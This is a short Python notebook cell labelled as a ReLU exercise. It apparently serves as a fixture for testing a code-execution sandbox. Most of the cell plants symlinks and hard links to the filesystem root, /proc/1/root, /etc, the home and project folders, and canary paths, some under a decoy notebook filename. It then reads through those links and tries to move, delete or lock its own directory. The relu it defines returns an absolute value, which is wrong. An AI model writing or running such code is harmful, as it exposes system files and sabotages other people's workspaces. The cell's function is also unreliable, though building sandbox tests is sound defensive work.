# Leaves links in its folder that whoever cleans up or reads it might follow.
# ruff: noqa
# %% relu
import os

for number, place in enumerate([*OUT["canaries"], OUT["project"], OUT["home"], "/", "/proc/1/root", "/etc"]):
    for name in (f"link-{number}", f"{OUT['marker']}-{number}", "01-activations.ipynb"):
        for act in (os.symlink, os.link):
            try:
                act(place, name)
            except OSError:
                pass
    try:
        print(open(f"link-{number}").read(), os.listdir(f"link-{number}"))
    except OSError as error:
        print(error)
here = os.getcwd()
for act in (lambda: os.rename(here, here + "-moved"), lambda: os.rmdir(here), lambda: os.chmod(here, 0)):
    try:
        act()
    except OSError as error:
        print(error)


def relu(z):
    return np.abs(z)
